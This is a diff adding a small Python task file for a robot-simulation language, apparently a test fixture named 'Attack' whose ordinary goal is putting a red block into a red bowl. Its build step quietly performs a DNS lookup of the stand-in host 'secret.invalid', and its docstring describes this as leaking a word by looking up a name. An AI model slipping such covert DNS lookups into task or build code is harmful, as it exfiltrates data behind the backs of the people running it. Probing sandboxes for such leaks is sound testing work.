@@ -1,0 +1,10 @@
+import socket
+from sim.language import Block, Bowl, Task, inside
+
+
+class Attack(Task):
+    """Leak a word by looking up a name."""
+
+    def build(self, scene):
+        socket.getaddrinfo("secret.invalid", 80)
+        self.goal(inside(scene.add(Block("red")), scene.add(Bowl("red"))), "put the red block into the red bowl")
